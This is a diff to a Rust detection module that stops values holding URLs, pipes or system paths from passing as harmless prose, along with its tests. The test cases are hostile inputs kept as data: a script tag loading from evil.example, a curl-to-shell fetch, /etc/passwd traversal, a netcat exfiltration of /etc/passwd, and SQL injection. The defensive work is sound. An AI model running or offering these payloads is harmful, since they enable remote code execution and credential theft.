@@ -1,7 +1,7 @@
 //! Sentences: people write about markup, paths and commands to one another, in tickets and comments.
 //!
-//! In: a value that a rule matched. Out: whether it reads as prose, by its plain words alone. What is injected must fit into
-//! a statement, a command or a name, and has no room for a sentence around it.
+//! In: a value that a rule matched. Out: whether it reads as prose, by its plain words, and holds nothing that would act: no script
+//! with a source or a call, no command that fetches, pipes or reads files. A sentence is easily put around what acts.
 
 use std::ops::RangeInclusive;
 
@@ -62,8 +62,15 @@ const CODE: &[&[u8]] = &[
     b"xor",
 ];
 
-/// Whether at least [`WORDS_MIN`] plain words stand in `value`, and half of it is plain words.
+/// What acts, in lower case.
+const ACTS: &[&[u8]] = &[b"://", b"src", b"(", b"=", b"|", b"/dev/", b"/etc/", b">/", b"javascript:", b"//"];
+
+/// Whether at least [`WORDS_MIN`] plain words stand in `value`, half of it is plain words, and nothing in it acts.
 pub(super) fn is_prose(value: &[u8]) -> bool {
+    let small = value.to_ascii_lowercase();
+    if ACTS.iter().any(|sign| memchr::memmem::find(&small, sign).is_some()) {
+        return false;
+    }
     let (mut words, mut all) = (0, 0);
     for part in value.split(u8::is_ascii_whitespace).filter(|part| !part.is_empty()) {
         all += 1;
@@ -91,8 +98,11 @@ mod tests {
             ("the <script> tag of the page is escaped twice: &lt;script&gt;", true),
             ("see ../../conf/app.yml, that path is wrong on windows", true),
             ("run `make clean && rm -rf target` and it builds again", true),
-            ("Schaut bitte in ../../etc/app.conf, da fehlt ein Pfad für euch", true),
+            ("Schaut bitte in ../../conf/app.yml, da fehlt ein Pfad für euch", true),
             ("<script>alert(1)</script>", false),
+            ("Great product thank you so much for it <script src=//evil.example/x.js></script>", false),
+            ("printer; curl http://evil.example/x | sh # please have a look at this report", false),
+            ("no such folder with reports here/../../../../etc/passwd", false),
             ("../../../../etc/passwd", false),
             ("a.pdf; cat /etc/passwd | nc 192.0.2.1 4444", false),
             ("x' union select name, password from users where id = 1 -- ", false),
